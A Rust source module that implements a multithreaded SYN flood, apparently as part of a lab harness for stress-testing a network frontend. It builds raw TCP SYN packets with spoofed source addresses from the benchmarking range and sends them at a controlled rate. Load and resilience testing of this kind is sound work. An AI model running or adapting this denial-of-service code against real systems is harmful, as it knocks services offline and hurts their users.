//! A SYN flood: first packets of connections that nobody means, from addresses that are nobody's.

use std::mem;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow};
use rustix::fd::OwnedFd;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with};
use weir_lab::{Host, clock};

/// Packets between two looks at the clock.
const BURST: u64 = 64;

/// A flood that goes on by itself; dropping it ends it.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    begin: Instant,
    threads: Vec<JoinHandle<Result<()>>>,
}

impl Flood {
    /// From a machine to a frontend, so many packets a second; 0 is as many as it can. A packet's whole way is walked on
    /// the CPU that sends it, so there is a sender for each.
    pub fn start(host: &Host, target: SocketAddrV4, rate: u64) -> Self {
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let senders =
            thread::available_parallelism().map_or(1, |count| u64::try_from(count.get()).unwrap_or(1));
        let start = |number| {
            let (host, stopped, counter) = (host.clone(), Arc::clone(&stop), Arc::clone(&sent));
            let share = Share {
                first: number << 32,
                rate: rate.div_ceil(senders),
            };
            thread::spawn(move || host.run(|| send(target, share, &stopped, &counter))?)
        };
        Self {
            threads: (0..senders).map(start).collect(),
            stop,
            sent,
            begin: clock::now(),
        }
    }

    /// Packets so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Waits until so many are sent.
    pub fn wait_for(&self, packets: u64) {
        while self.sent() < packets && !self.threads.iter().any(JoinHandle::is_finished) {
            thread::sleep(Duration::from_millis(5));
        }
    }

    /// Ends it; how many packets it sent, and how many a second.
    pub fn stop(mut self) -> Result<(u64, u64)> {
        let took = self.begin.elapsed();
        self.stop.store(true, Ordering::Relaxed);
        for thread in mem::take(&mut self.threads) {
            thread.join().map_err(|_| anyhow!("a sender panicked"))??;
        }
        let millis = u64::try_from(took.as_millis()).unwrap_or(u64::MAX).max(1);
        Ok((self.sent(), self.sent() * 1000 / millis))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// What one sender sends.
#[derive(Clone, Copy)]
struct Share {
    /// The number of its first packet, which makes the source.
    first: u64,
    /// Packets a second; 0 is as many as it can.
    rate: u64,
}

fn send(target: SocketAddrV4, share: Share, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
    let socket: OwnedFd = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::RAW),
    )
    .context("cannot open a raw socket")?;
    let begin = clock::now();
    let mut number = 0;
    while !stop.load(Ordering::Relaxed) {
        for _ in 0..BURST {
            // What the way does not take is sent again by nobody: it is a flood.
            if sendto(
                &socket,
                &syn(share.first + number, target),
                SendFlags::empty(),
                &target,
            )
            .is_ok()
            {
                sent.fetch_add(1, Ordering::Relaxed);
            }
            number += 1;
        }
        while share.rate > 0
            && u128::from(number) * 1_000_000 > u128::from(share.rate) * begin.elapsed().as_micros()
            && !stop.load(Ordering::Relaxed)
        {
            thread::sleep(Duration::from_micros(100));
        }
    }
    Ok(())
}

/// An IPv4 packet with a SYN, from one of the addresses for measurements (RFC 2544) and some port; the kernel writes length
/// and checksum of the IP header.
fn syn(number: u64, target: SocketAddrV4) -> [u8; 40] {
    // A multiplicative hash (Knuth, 6.4): no source twice before there were many millions.
    let [net, subnet, host, port @ .., tail, _, _] = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes();
    let source = Ipv4Addr::new(198, 18 + (net & 1), subnet, host).octets();
    let from = (1024 | u16::from_be_bytes(port)).to_be_bytes();
    let ports = [from, target.port().to_be_bytes()].concat();
    let to = target.ip().octets();
    let mut tcp = [0; 20];
    tcp[..4].copy_from_slice(&ports);
    tcp[4..8].copy_from_slice(&[net, subnet, host, tail]);
    // Five words long, SYN, a window of 64,240.
    tcp[12..16].copy_from_slice(&[0x50, 2, 0xfa, 0xf0]);
    let pseudo = [source, to, [0, 6, 0, 20]].concat();
    let sum = pseudo
        .chunks(2)
        .chain(tcp.chunks(2))
        .map(|pair| pair.iter().fold(0, |word, byte| word << 8 | u32::from(*byte)))
        .sum::<u32>();
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = !((sum & 0xffff) + (sum >> 16));
    let [_, _, sum @ ..] = sum.to_be_bytes();
    tcp[16..18].copy_from_slice(&sum);
    let mut packet = [0; 40];
    packet[..12].copy_from_slice(&[0x45, 0, 0, 40, tail, net, 0, 0, 64, 6, 0, 0]);
    packet[12..16].copy_from_slice(&source);
    packet[16..20].copy_from_slice(&to);
    packet[20..].copy_from_slice(&tcp);
    packet
}
